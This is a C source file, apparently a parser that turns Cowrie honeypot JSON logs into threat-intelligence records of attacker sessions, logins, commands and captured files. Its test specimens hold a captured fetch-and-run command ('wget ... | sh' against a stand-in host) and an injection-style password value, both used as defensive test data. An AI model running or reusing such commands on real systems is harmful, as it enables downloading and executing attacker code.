/*
 * Cowrie's log: what attackers did at a medium-interaction decoy, a JSON object a line.
 *
 * Each event becomes a record of the kind that ours would be.  What a command or a download names by URL is told once
 * more as that, since it is what others can block.  Sizes of terminals and the like say nothing of an attack, and are
 * left out.
 */
#include "base/moment.h"
#include "share/reading/pick_inner.h"
#include "share/reading/words_inner.h"
#include <xxhash.h>

FIELD(cowrie_session, "cowrie.session", BYTES, 0, "Cowrie's name of the session");
FIELD(cowrie_sensor, "cowrie.sensor", BYTES, 0, "the partner's sensor");
FIELD(cowrie_hassh, "ssh.hassh", TEXT, 0, "digest of the client's algorithm lists");
FIELD(cowrie_key, "ssh.key", BYTES, 0, "algorithm and fingerprint of the key that was offered");

#define CONFIDENCE_SEEN 90
#define HASSH_LETTERS 32

enum place {
	EVENT, MESSAGE, SENSOR, TIMESTAMP, SESSION, SRC_IP, SRC_PORT, DST_IP, DST_PORT, PROTOCOL, DURATION, USER, SECRET, INPUT,
	URL, SHASUM, OUTFILE, FILENAME, VERSION, HASSH, FINGERPRINT, KEY_TYPE, DATA,
	DESTFILE,
	PLACES
};

/* A command that is not found stands twice, as it came and as it failed; the second time it is passed over. */
#define INPUTS_KEPT 32
struct cowrie_state {
	uint64_t inputs[INPUTS_KEPT]; /* digests of sessions and commands */
	size_t count;
};

static const struct pick picks[] = {
	PICK("eventid", EVENT), PICK("message", MESSAGE), PICK("sensor", SENSOR), PICK("timestamp", TIMESTAMP),
	PICK("session", SESSION), PICK("src_ip", SRC_IP), PICK("src_port", SRC_PORT), PICK("dst_ip", DST_IP),
	PICK("dst_port", DST_PORT), PICK("protocol", PROTOCOL), PICK("duration", DURATION), PICK("username", USER),
	PICK("password", SECRET), PICK("input", INPUT), PICK("url", URL), PICK("shasum", SHASUM), PICK("outfile", OUTFILE),
	PICK("filename", FILENAME), PICK("version", VERSION), PICK("hassh", HASSH), PICK("fingerprint", FINGERPRINT),
	PICK("type", KEY_TYPE), PICK("data", DATA), PICK("destfile", DESTFILE), PICK_END,
};

enum trait { PLAIN, ACCEPTED, DENIED, FOUND, UNKNOWN };

static const struct sort { const char *event, *kind; enum trait trait; } sorts[] = {
	{"session.connect", "session.opened", PLAIN}, {"session.closed", "session.closed", PLAIN},
	{"login.success", "login.tried", ACCEPTED}, {"login.failed", "login.tried", DENIED},
	{"client.fingerprint", "login.tried", PLAIN},
	{"command.input", "command.sent", PLAIN}, {"command.success", "command.sent", FOUND},
	{"command.failed", "command.sent", UNKNOWN},
	{"session.file_download", "file.captured", PLAIN}, {"session.file_upload", "file.captured", PLAIN},
	{"session.file_download.failed", "file.captured", PLAIN},
	{"client.version", "client.seen", PLAIN}, {"client.kex", "client.seen", PLAIN},
	{"direct-tcpip.request", "request.seen", PLAIN}, {"direct-tcpip.data", "request.seen", PLAIN},
	{"client.size", NULL, PLAIN}, {"client.var", NULL, PLAIN}, {"session.params", NULL, PLAIN}, {"session.input", NULL, PLAIN},
	{"log.open", NULL, PLAIN}, {"log.closed", NULL, PLAIN}, {"virustotal.scanfile", NULL, PLAIN},
};

static const struct sort *sort_of(struct bytes event)
{
	struct bytes name = bytes_start_with(event, "cowrie.") ? (struct bytes){event.at + 7, event.len - 7} : event;
	for (size_t i = 0; i < sizeof sorts / sizeof *sorts; i++)
		if (bytes_equal_text(name, sorts[i].event))
			return &sorts[i];
	return NULL;
}

static bool is_hex(struct bytes b, size_t letters)
{
	for (size_t i = 0; i < b.len; i++)
		if (!memchr("0123456789abcdef", b.at[i], 16))
			return false;
	return b.len == letters;
}

static void set_where(struct intake *in, const struct json_value *v, struct record *r)
{
	struct address decoy;
	if (pick_count(&v[SRC_PORT], UINT16_MAX))
		record_number(r, FIELD_SPORT, pick_count(&v[SRC_PORT], UINT16_MAX));
	if (address_parse(pick_text(in, &v[DST_IP]), &decoy))
		record_address(r, FIELD_DST, &decoy);
	r->port = (uint32_t)pick_count(&v[DST_PORT], UINT16_MAX);
	record_text(r, FIELD_PROTO, "tcp");
	record_bytes(r, word_class, pick_text(in, &v[PROTOCOL]));
	record_bytes(r, cowrie_session, pick_text(in, &v[SESSION]));
	record_bytes(r, cowrie_sensor, pick_text(in, &v[SENSOR]));
}

static void set_deed(struct intake *in, const struct json_value *v, const struct sort *sort, struct record *r)
{
	struct bytes sha256 = pick_text(in, &v[SHASUM]), hassh = pick_text(in, &v[HASSH]);
	struct bytes name = pick_text(in, &v[v[FILENAME].raw.len ? FILENAME : DESTFILE]);
	uint64_t duration;
	record_bytes(r, FIELD_LOGIN_USER, pick_text(in, &v[USER]));
	record_bytes(r, FIELD_LOGIN_SECRET, pick_text(in, &v[SECRET]));
	if (sort->trait == ACCEPTED || sort->trait == DENIED)
		record_number(r, FIELD_LOGIN_ACCEPTED, sort->trait == ACCEPTED);
	record_bytes(r, FIELD_COMMAND_LINE, pick_text(in, &v[INPUT]));
	if (sort->trait == FOUND || sort->trait == UNKNOWN)
		record_number(r, FIELD_COMMAND_FOUND, sort->trait == FOUND);
	record_bytes(r, FIELD_FILE_URL, pick_text(in, &v[URL]));
	if (is_hex(sha256, 64))
		record_bytes(r, FIELD_FILE_SHA256, sha256);
	record_bytes(r, FIELD_FILE_NAME, name.len ? name : pick_text(in, &v[OUTFILE]));
	record_bytes(r, FIELD_AGENT, pick_text(in, &v[VERSION]));
	if (is_hex(hassh, HASSH_LETTERS))
		record_bytes(r, cowrie_hassh, hassh);
	record_bytes(r, cowrie_key, pick_text(in, &v[FINGERPRINT]));
	if (moment_seconds(pick_text(in, &v[DURATION]), &duration))
		record_number(r, FIELD_DURATION, duration);
}

/* Cowrie's forwarded connections name whom they were meant for, in place of the decoy. */
static void set_forwarded(struct intake *in, const struct json_value *v, struct record *r)
{
	r->port = 0;
	record_bytes(r, FIELD_TARGET, pick_text(in, &v[DST_IP]));
	record_bytes(r, FIELD_BODY, pick_text(in, &v[DATA]));
	record_bytes(r, cowrie_session, pick_text(in, &v[SESSION]));
	record_bytes(r, cowrie_sensor, pick_text(in, &v[SENSOR]));
	if (pick_count(&v[DST_PORT], UINT16_MAX))
		r->port = (uint32_t)pick_count(&v[DST_PORT], UINT16_MAX);
}

/* What else the line names, for those who block it. */
static void tell_urls(struct intake *in, const struct json_value *v, const struct record *seen)
{
	struct record like = {.time_us = seen->time_us, .original = seen->original, .role = "download"};
	const struct bytes url = pick_text(in, &v[URL]), command = pick_text(in, &v[INPUT]);
	struct bytes sha256 = pick_text(in, &v[SHASUM]);
	if (is_hex(sha256, 64))
		record_bytes(&like, FIELD_FILE_SHA256, sha256);
	if (url.len)
		intake_text(in, &like, url);
	if (command.len && bytes_find(command, "://") < command.len)
		intake_text(in, &like, command);
}

static bool repeats(struct intake *in, const struct json_value *v, enum trait trait)
{
	struct cowrie_state *state = intake_state(in);
	struct bytes session = pick_text(in, &v[SESSION]), input = pick_text(in, &v[INPUT]);
	uint64_t digest = XXH3_64bits_withSeed(input.at, input.len, XXH3_64bits(session.at, session.len));
	bool known = false;
	for (size_t i = 0; i < INPUTS_KEPT && !known; i++)
		known = state->inputs[i] == digest;
	if (trait != FOUND && trait != UNKNOWN)
		state->inputs[state->count++ % INPUTS_KEPT] = digest;
	return known && (trait == FOUND || trait == UNKNOWN);
}

static void line(struct intake *in, struct bytes whole)
{
	struct json_value v[PLACES];
	if (!pick_line(in, whole, picks, v, PLACES))
		return;
	struct bytes event = pick_text(in, &v[EVENT]), source = pick_text(in, &v[SRC_IP]);
	const struct sort *sort = sort_of(event);
	struct record r = {.type = "address", .confidence = CONFIDENCE_SEEN, .original = whole, .has_address = true};
	if (!sort && bytes_start_with(event, "cowrie.")) /* of a newer Cowrie, which adds some with each version */
		return;
	if (!sort) {
		intake_bad(in, "\"%.*s\" is no event of Cowrie", (int)(event.len < 60 ? event.len : 60), event.len ? (const char *)event.at : "");
		return;
	}
	if (!sort->kind || (v[INPUT].raw.len && repeats(in, v, sort->trait)))
		return;
	if (!address_parse(source, &r.address)) {
		intake_bad(in, "src_ip is no address");
		return;
	}
	r.kind = sort->kind;
	r.value = source;
	r.time_us = pick_moment(in, &v[TIMESTAMP]);
	if (bytes_start_with(bytes_of_text(sort->event), "direct-tcpip"))
		set_forwarded(in, v, &r);
	else
		set_where(in, v, &r);
	set_deed(in, v, sort, &r);
	record_digest(in, &r, whole);
	intake_record(in, &r);
	tell_urls(in, v, &r);
}

static const struct format_specimen specimens[] = {
	{"a visit from login to download, and what says nothing",
	 BYTES("{\"eventid\":\"cowrie.session.connect\",\"src_ip\":\"198.51.100.20\",\"src_port\":51000,\"dst_ip\":\"192"
	       ".0.2.8\",\"dst_port\":2222,\"session\":\"a1b2c3d4e5f6\",\"protocol\":\"ssh\",\"message\":\"New connectio"
	       "n\",\"sensor\":\"tokyo\",\"timestamp\":\"2024-07-05T10:00:00.000001Z\"}\n{\"eventid\":\"cowrie.client.ke"
	       "x\",\"hassh\":\"ec7378c1a92f5a8dde7e8b7a1ddf33d1\",\"src_ip\":\"198.51.100.20\",\"session\":\"a1b2c3d4e5"
	       "f6\",\"timestamp\":\"2024-07-05T10:00:00.500000Z\"}\n{\"eventid\":\"cowrie.login.success\",\"username\":"
	       "\"root\",\"password\":\"\\u0000x'; DROP\",\"src_ip\":\"198.51.100.20\",\"session\":\"a1b2c3d4e5f6\",\"ti"
	       "mestamp\":\"2024-07-05T10:00:01.000000Z\"}\n{\"eventid\":\"cowrie.command.input\",\"input\":\"wget http:"
	       "//203.0.113.5/a.sh -O- | sh\",\"src_ip\":\"198.51.100.20\",\"session\":\"a1b2c3d4e5f6\",\"timestamp\":\""
	       "2024-07-05T10:00:02.000000Z\"}\n{\"eventid\":\"cowrie.client.size\",\"width\":80,\"src_ip\":\"198.51.100"
	       ".20\"}\n{\"eventid\":\"cowrie.session.file_download\",\"url\":\"http://203.0.113.5/a.sh\",\"outfile\":\""
	       "var/lib/x\",\"shasum\":\"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\",\"src_ip\":"
	       "\"198.51.100.20\",\"session\":\"a1b2c3d4e5f6\",\"timestamp\":\"2024-07-05T10:00:03.000000Z\"}\n{\"eventi"
	       "d\":\"cowrie.session.closed\",\"duration\":\"12.5\",\"src_ip\":\"198.51.100.20\",\"session\":\"a1b2c3d4e"
	       "5f6\",\"timestamp\":\"2024-07-05T10:00:12.000000Z\"}\n"),
	 "address 198.51.100.20\n"
	 "  kind session.opened\n"
	 "  port 2222\n"
	 "  sport 51000\n"
	 "  dst 192.0.2.8\n"
	 "  record.class ssh\n"
	 "  cowrie.session a1b2c3d4e5f6\n"
	 "  cowrie.sensor tokyo\n"
	 "  time 2024-07-05T10:00:00.000001Z\n"
	 "address 198.51.100.20\n"
	 "  kind client.seen\n"
	 "  ssh.hassh ec7378c1a92f5a8dde7e8b7a1ddf33d1\n"
	 "address 198.51.100.20\n"
	 "  kind login.tried\n"
	 "  login.user root\n"
	 "  login.accepted 1\n"
	 "address 198.51.100.20\n"
	 "  kind command.sent\n"
	 "  command.line wget http://203.0.113.5/a.sh -O- | sh\n"
	 "url http://203.0.113.5/a.sh\n"
	 "  role download\n"
	 "address 203.0.113.5\n"
	 "address 198.51.100.20\n"
	 "  kind file.captured\n"
	 "  file.url http://203.0.113.5/a.sh\n"
	 "  file.sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n"
	 "address 198.51.100.20\n"
	 "  kind session.closed\n"
	 "  duration 12500000\n"},
	{"a command that is not found stands twice",
	 BYTES("{\"eventid\":\"cowrie.command.input\",\"input\":\"shell\",\"src_ip\":\"198.51.100.20\",\"session\":\"a1\","
	       "\"timestamp\":\"2024-07-05T10:00:02.000000Z\"}\n{\"eventid\":\"cowrie.command.failed\",\"input\":\"shell\","
	       "\"src_ip\":\"198.51.100.20\",\"session\":\"a1\",\"timestamp\":\"2024-07-05T10:00:02.000900Z\"}\n"
	       "{\"eventid\":\"cowrie.command.failed\",\"input\":\"enable\",\"src_ip\":\"198.51.100.20\",\"session\":\"a1\","
	       "\"timestamp\":\"2024-07-05T10:00:03.000000Z\"}\n{\"eventid\":\"cowrie.new.thing\",\"src_ip\":\"198.51.100.20\"}\n"),
	 "address 198.51.100.20\n  command.line shell\naddress 198.51.100.20\n  command.line enable\n  command.found 0\n"},
	{"what is none",
	 BYTES("{\"eventid\":\"other.thing\",\"src_ip\":\"198.51.100.20\"}\n{\"eventid\":\"cowrie.session.connect\",\"sr"
	       "c_ip\":\"x\"}\n[1]\n{\"eventid\":\"cowrie.login.failed\"\n"),
	 "bad \"other.thing\" is no event\n"
	 "bad src_ip is no address\n"
	 "bad it is no JSON object\n"
	 "bad \n"},
	{0},
};

static const struct format cowrie = {
	.name = "cowrie",
	.summary = "what attackers did at Cowrie's decoys: sessions, logins, commands, files",
	.reference = "Cowrie's JSON log, as of 2.5",
	.shape = FORMAT_LINES,
	.line = line,
	.state_size = sizeof(struct cowrie_state),
	.specimens = specimens,
};
FORMAT(cowrie);
